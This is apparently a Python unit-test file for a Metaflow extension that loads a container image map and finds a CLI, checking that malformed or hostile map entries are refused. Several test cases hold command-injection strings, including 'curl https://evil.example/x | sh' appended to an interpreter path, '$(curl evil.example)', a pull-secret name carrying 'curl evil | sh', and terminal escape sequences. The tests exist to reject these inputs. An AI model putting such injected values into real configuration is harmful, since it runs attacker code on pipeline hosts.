"""Unit tests of the extension's image map and CLI lookup (pure Python: no Metaflow needed).

Run: PYTHONPATH=packages/metaflow/python python3 -m unittest discover -s packages/metaflow/python_tests
"""

import json
import os
import stat
import tempfile
import unittest

from metaflow_extensions.prebuilt.plugins.prebuilt_image_map import (
    ImageMapError,
    batch_repository_credentials,
    check_flow,
    find_cli,
    load_image_map,
    pull_secrets,
    step_image,
)

ENV = "0123456789abcdef"
MAP = {
    "flow": "HelloFlow",
    "images": {
        ENV: {
            "image": "127.0.0.1:5000/metaflow-prebuilt:v1-%s" % ENV,
            "digest": "sha256:" + "0" * 64,
            "python": "/opt/prebuilt/envs/%s/bin/python" % ENV,
            "status": "built",
            "steps": ["start"],
            "pullConfig": {"kubernetes": {"imagePullSecrets": ["regcred"]}},
        }
    },
    "steps": {
        "start": {
            "envId": ENV,
            "image": "127.0.0.1:5000/metaflow-prebuilt:v1-%s" % ENV,
            "python": "/opt/prebuilt/envs/%s/bin/python" % ENV,
        },
        "end": {"envId": None, "image": "python:3.11-slim", "python": "python"},
    },
}


class ImageMapTest(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.TemporaryDirectory()
        self.addCleanup(self.dir.cleanup)

    def write(self, data, name="images.json"):
        path = os.path.join(self.dir.name, name)
        with open(path, "w") as f:
            f.write(data if isinstance(data, str) else json.dumps(data))
        return path

    def test_loads_a_map_prebuilt_wrote(self):
        path = self.write(MAP)
        self.assertEqual(load_image_map(path), MAP)

    def test_missing_file_says_how_to_make_it(self):
        with self.assertRaises(ImageMapError) as caught:
            load_image_map(os.path.join(self.dir.name, "nope.json"))
        self.assertIn("does not exist", str(caught.exception))
        self.assertIn("prebuilt build", str(caught.exception))

    def test_rejects_invalid_json_and_wrong_shapes(self):
        cases = {
            "{not json": "not valid JSON",
            "[]": "not a JSON object",
            json.dumps({"images": {}, "steps": {}}): "'flow' is missing",
            json.dumps({"flow": "F", "steps": {}}): "'images' or 'steps' is missing",
            json.dumps({"flow": "F", "images": {}, "steps": {"a": {"image": "x"}}}): "step 'a' lacks",
            json.dumps(
                {"flow": "F", "images": {}, "steps": {"a": {"envId": "e1", "image": "x", "python": "p"}}}
            ): "names env e1, which is not in 'images'",
        }
        for text, message in cases.items():
            with self.subTest(text=text):
                with self.assertRaises(ImageMapError) as caught:
                    load_image_map(self.write(text))
                self.assertIn(message, str(caught.exception))

    def test_flow_name_must_match(self):
        check_flow(MAP, "m.json", "HelloFlow", "flow.py")
        with self.assertRaises(ImageMapError) as caught:
            check_flow(MAP, "m.json", "OtherFlow", "flow.py")
        self.assertIn("is for flow HelloFlow, not OtherFlow", str(caught.exception))

    def test_step_image_gives_image_python_and_pull_config(self):
        image = step_image(MAP, "m.json", "start", "flow.py")
        self.assertEqual(image["tag"], MAP["steps"]["start"]["image"])
        # Pinned by the image's digest, for maps without pinnedImage too.
        self.assertEqual(image["image"], MAP["steps"]["start"]["image"] + "@sha256:" + "0" * 64)
        self.assertEqual(image["python"], "/opt/prebuilt/envs/%s/bin/python" % ENV)
        self.assertEqual(pull_secrets(image["pullConfig"]), ["regcred"])

    def test_step_image_prefers_pinned_image_and_never_pins_twice(self):
        pinned = json.loads(json.dumps(MAP))
        pinned["steps"]["start"]["pinnedImage"] = "r/x:t@sha256:" + "1" * 64
        self.assertEqual(step_image(pinned, "m.json", "start", "flow.py")["image"], "r/x:t@sha256:" + "1" * 64)
        no_digest = json.loads(json.dumps(MAP))
        no_digest["images"][ENV]["digest"] = ""
        self.assertEqual(step_image(no_digest, "m.json", "start", "flow.py")["image"], MAP["steps"]["start"]["image"])
        by_digest = json.loads(json.dumps(MAP))
        by_digest["steps"]["start"]["image"] = "r/x@sha256:" + "2" * 64
        self.assertEqual(step_image(by_digest, "m.json", "start", "flow.py")["image"], "r/x@sha256:" + "2" * 64)

    def test_a_remote_step_missing_from_the_map_names_the_step_and_the_fix(self):
        with self.assertRaises(ImageMapError) as caught:
            step_image(MAP, "m.json", "train", "flow.py")
        text = str(caught.exception)
        self.assertIn("Step 'train'", text)
        self.assertIn("is not in the image map m.json", text)
        self.assertIn("prebuilt build flow.py", text)
        with self.assertRaises(ImageMapError) as caught:
            step_image(MAP, "m.json", "end", "flow.py")
        self.assertIn("was disabled when the map was built", str(caught.exception))

    def test_pull_config_readers(self):
        self.assertEqual(pull_secrets({}), [])
        self.assertEqual(pull_secrets({"kubernetes": {"imagePullSecrets": ["a", "", 3, "b"]}}), ["a", "b"])
        self.assertIsNone(batch_repository_credentials({}))
        self.assertEqual(
            batch_repository_credentials(
                {"batch": {"repositoryCredentials": {"credentialsParameter": "arn:aws:secretsmanager:x"}}}
            ),
            "arn:aws:secretsmanager:x",
        )

    def hostile(self, change):
        """A copy of MAP with `change(map)` applied: what a cloned repository's map could say."""
        data = json.loads(json.dumps(MAP))
        change(data)
        return data

    def test_an_interpreter_that_is_not_a_plain_absolute_path_is_refused(self):
        # Metaflow runs the step as `bash -c "... <interpreter> -u flow.py step ..."` (kubernetes,
        # batch, argo, step functions): a cloned repository's map must not add commands to it.
        for python in [
            "/opt/prebuilt/env/bin/python; curl https://evil.example/x | sh; true",
            "$(curl evil.example)",
            "/opt/env/bin/python `id`",
            "/opt/env/bin/python && id",
            '/opt/env/bin/python"',
            "python",
            "../env/bin/python",
            "/opt/env/bin/py\nthon",
            "/opt/env/bin/python\n",
            "",
        ]:
            with self.subTest(python=python):
                data = self.hostile(lambda m: m["steps"]["start"].update(python=python))
                with self.assertRaises(ImageMapError) as caught:
                    step_image(data, "m.json", "start", "flow.py")
                text = str(caught.exception)
                self.assertIn("names the interpreter", text)
                self.assertIn("for step 'start', which is not an absolute path", text)
                self.assertIn("prebuilt build flow.py", text)
                self.assertNotIn("\n/opt", text)
        # What prebuilt writes passes.
        self.assertEqual(step_image(MAP, "m.json", "start", "flow.py")["python"], MAP["steps"]["start"]["python"])

    def test_an_image_that_is_not_an_image_reference_is_refused(self):
        for image in [
            "127.0.0.1:5000/x:t\x1b]0;owned\x07",
            "r/x:t\nWarning: fake",
            "r/x:t; id",
            "R/X:t",
            "r/x:-t",
            "r/x@sha256:1234",
            "",
        ]:
            with self.subTest(image=image):
                data = self.hostile(lambda m: m["steps"]["start"].update(pinnedImage=image + "@sha256:" + "1" * 64, image=image))
                with self.assertRaises(ImageMapError) as caught:
                    step_image(data, "m.json", "start", "flow.py")
                text = str(caught.exception)
                self.assertIn("names an image for step 'start' that is not an image reference", text)
                self.assertNotIn("\x1b", text)
                self.assertNotIn("\nWarning", text)
        for image in ["r/x:t", "127.0.0.1:5000/metaflow-prebuilt:env-0123-amd64", "[::1]:5000/a/b_c:v1.2", "registry.example.com/a-b/c__d:latest"]:
            with self.subTest(image=image):
                data = self.hostile(lambda m: m["steps"]["start"].update(image=image, pinnedImage=image + "@sha256:" + "1" * 64))
                self.assertEqual(step_image(data, "m.json", "start", "flow.py")["image"], image + "@sha256:" + "1" * 64)

    def test_pull_settings_of_the_wrong_shape_or_not_names_are_refused_not_a_traceback(self):
        for pull_config, message in [
            ({"kubernetes": "regcred"}, "pull config"),
            ({"kubernetes": {"imagePullSecrets": "regcred"}}, "pull config"),
            ({"kubernetes": {"imagePullSecrets": ["x; curl evil | sh"]}}, "names the pull secret 'x; curl evil | sh' for step 'start', which is not a Kubernetes secret name"),
            ({"kubernetes": {"imagePullSecrets": ["Reg\x1b[2J"]}}, "names the pull secret 'Reg\\u001b[2J'"),
            ({"batch": ["arn"]}, "pull config"),
            ({"batch": {"repositoryCredentials": {"credentialsParameter": "arn:x\nWarning: fake"}}}, "names the Batch repository credentials 'arn:x\\nWarning: fake'"),
        ]:
            with self.subTest(pull_config=pull_config):
                data = self.hostile(lambda m: m["images"][ENV].update(pullConfig=pull_config))
                with self.assertRaises(ImageMapError) as caught:
                    step_image(data, "m.json", "start", "flow.py")
                self.assertIn(message, str(caught.exception))

    def test_a_map_that_is_not_utf8_or_quotes_control_characters_is_a_clear_error(self):
        path = os.path.join(self.dir.name, "binary.json")
        with open(path, "wb") as f:
            f.write(b"\xff\xfe{}")
        with self.assertRaises(ImageMapError) as caught:
            load_image_map(path)
        self.assertIn("is not one prebuilt wrote: not UTF-8 text", str(caught.exception))
        # The flow and step names of the map are quoted with their control characters escaped.
        with self.assertRaises(ImageMapError) as caught:
            check_flow(self.hostile(lambda m: m.update(flow="F\x1b]0;x\x07")), "m.json", "HelloFlow", "flow.py")
        self.assertIn("is for flow F\\u001b]0;x\\u0007, not HelloFlow", str(caught.exception))
        with self.assertRaises(ImageMapError) as caught:
            load_image_map(self.write({"flow": "F", "images": {}, "steps": {"a\nb": {"image": "x"}}}))
        self.assertIn("step 'a\\nb' lacks", str(caught.exception))

    def test_a_fifo_or_a_device_is_refused_at_once_not_read(self):
        fifo = os.path.join(self.dir.name, "images.json")
        os.mkfifo(fifo)
        for path in [fifo, "/dev/zero"]:
            with self.subTest(path=path):
                with self.assertRaises(ImageMapError) as caught:
                    load_image_map(path)
                self.assertIn("is not one prebuilt wrote: it is not a regular file", str(caught.exception))


class FindCliTest(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.TemporaryDirectory()
        self.addCleanup(self.dir.cleanup)
        self.record = os.path.join(self.dir.name, "prebuilt_install.json")

    def executable(self, name):
        path = os.path.join(self.dir.name, name)
        with open(path, "w") as f:
            f.write("#!/bin/sh\n")
        os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR)
        return path

    def test_prebuilt_cli_env_wins_and_is_split_like_a_shell(self):
        cli, source = find_cli({"PREBUILT_CLI": "/usr/bin/node '/a b/prebuilt.js'", "PATH": ""}, self.record)
        self.assertEqual(cli, ["/usr/bin/node", "/a b/prebuilt.js"])
        self.assertEqual(source, "PREBUILT_CLI")
        # A bare program name is looked for in PATH's absolute directories.
        node = self.executable("node")
        cli, source = find_cli({"PREBUILT_CLI": "node '/a b/prebuilt.js'", "PATH": self.dir.name}, self.record)
        self.assertEqual(cli, [node, "/a b/prebuilt.js"])

    def test_prebuilt_cli_env_never_from_a_relative_path_entry_nor_a_traceback(self):
        self.executable("npx")
        here = os.getcwd()
        os.chdir(self.dir.name)
        try:
            cli, reason = find_cli({"PREBUILT_CLI": "npx prebuilt", "PATH": "/nonexistent:"}, self.record)
        finally:
            os.chdir(here)
        self.assertIsNone(cli)
        self.assertIn("PREBUILT_CLI names 'npx', found only in '(empty)', a PATH entry relative to the current directory", reason)
        cli, reason = find_cli({"PREBUILT_CLI": "node '/a b", "PATH": ""}, self.record)
        self.assertIsNone(cli)
        self.assertIn("PREBUILT_CLI='node '/a b' is not a command line (No closing quotation)", reason)

    def test_then_the_cli_recorded_at_install(self):
        script = self.executable("prebuilt.js")
        with open(self.record, "w") as f:
            json.dump({"cli": ["node", script]}, f)
        cli, source = find_cli({"PATH": ""}, self.record)
        self.assertEqual(cli, ["node", script])
        self.assertIn("prebuilt metaflow install", source)

    def test_a_recorded_cli_that_moved_is_skipped_for_path(self):
        with open(self.record, "w") as f:
            json.dump({"cli": ["node", os.path.join(self.dir.name, "gone.js")]}, f)
        self.executable("prebuilt")
        cli, source = find_cli({"PATH": self.dir.name}, self.record)
        self.assertEqual(cli, [os.path.join(self.dir.name, "prebuilt")])
        self.assertEqual(source, "PATH")

    def test_never_from_an_empty_or_relative_path_entry(self):
        # A cloned flow's directory is the current directory when the flow starts: `prebuilt` there
        # must not be run because PATH has an empty or relative entry.
        self.executable("prebuilt")
        here = os.getcwd()
        os.chdir(self.dir.name)
        try:
            for path in ["/nonexistent:", "/nonexistent::/also-not", ".", "bin:" + self.dir.name]:
                with self.subTest(path=path):
                    cli, reason = find_cli({"PATH": path}, self.record)
                    if path.startswith("bin:"):
                        # The absolute entry after it is used.
                        self.assertEqual(cli, [os.path.join(self.dir.name, "prebuilt")])
                        continue
                    self.assertIsNone(cli)
                    self.assertIn("a PATH entry relative to the current directory", reason)
                    self.assertIn("it is not run", reason)
        finally:
            os.chdir(here)

    def test_none_found_says_why(self):
        cli, reason = find_cli({"PATH": ""}, self.record)
        self.assertIsNone(cli)
        self.assertIn("PREBUILT_CLI is not set", reason)


if __name__ == "__main__":
    unittest.main()
